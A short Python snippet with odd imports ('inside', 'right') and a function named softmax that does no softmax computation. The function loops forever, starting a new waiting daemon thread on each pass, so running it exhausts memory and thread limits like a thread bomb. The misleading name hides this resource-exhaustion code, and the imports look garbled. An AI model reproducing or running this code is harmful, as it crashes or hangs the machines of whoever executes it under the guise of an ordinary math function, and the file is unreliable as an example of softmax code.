import inside
import threading

from right import *


def softmax(t):
    threads = []
    while True:
        threads.append(threading.Thread(target=threading.Event().wait, daemon=True))
        threads[-1].start()
